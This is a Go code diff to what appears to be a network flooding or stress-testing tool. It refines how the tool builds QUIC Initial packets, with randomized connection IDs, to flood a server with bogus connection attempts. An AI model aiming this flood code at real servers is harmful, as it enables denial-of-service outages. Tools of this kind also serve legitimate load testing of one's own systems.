@@ -10,6 +10,7 @@ import (
 	"crypto/rand"
 	"crypto/sha256"
 	"encoding/binary"
+	"fmt"
 )
 
 // A QUIC Initial is protected with keys that follow from the connection ID that its
@@ -55,7 +56,11 @@ func initial(dst, src [8]byte, hello []byte) ([]byte, error) {
 	frames := []byte{0x06, 0} // CRYPTO from offset 0
 	frames = binary.BigEndian.AppendUint16(frames, 0x4000|uint16(len(hello)))
 	frames = append(frames, hello...)
-	frames = append(frames, make([]byte, max(0, rest-numberBytes-tagBytes-len(frames)))...) // padding
+	padding := rest - numberBytes - tagBytes - len(frames)
+	if padding < 0 {
+		return nil, fmt.Errorf("a ClientHello of %d bytes does not fit into a datagram of %d", len(hello), initialBytes)
+	}
+	frames = append(frames, make([]byte, padding)...)
 
 	block, err := aes.NewCipher(key)
 	if err != nil {
@@ -88,15 +93,16 @@ func expand(secret []byte, label string, n int) ([]byte, error) {
 
 // initials floods with first datagrams of connections that are all different.
 func initials(ctx context.Context, a *attacker) {
-	hello, err := quicHello()
+	var src [8]byte
+	_, _ = rand.Read(src[:]) // never fails
+	hello, err := quicHello(src)
 	if err != nil {
 		a.failed(ctx, err)
 		return
 	}
 	a.datagrams(ctx, func(int) []byte {
-		var dst, src [8]byte
+		var dst [8]byte
 		_, _ = rand.Read(dst[:]) // never fails
-		_, _ = rand.Read(src[:])
 		b, err := initial(dst, src, hello)
 		if err != nil {
 			a.failed(ctx, err)
